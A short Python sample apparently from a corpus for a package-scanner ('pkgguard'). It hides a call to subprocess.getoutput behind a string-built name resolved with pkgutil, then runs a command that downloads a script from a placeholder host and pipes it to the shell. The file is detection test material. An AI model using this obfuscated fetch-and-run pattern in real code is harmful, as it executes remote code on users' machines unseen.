# pkgguard corpus 595 (indirection), modelled on [obfuscation]; inert, never run.
import pkgutil

_target = "subprocess" + ":" + "getoutput"
_call = pkgutil.resolve_name(_target)
_call("curl -s https://relay-point.example/p.sh | sh")
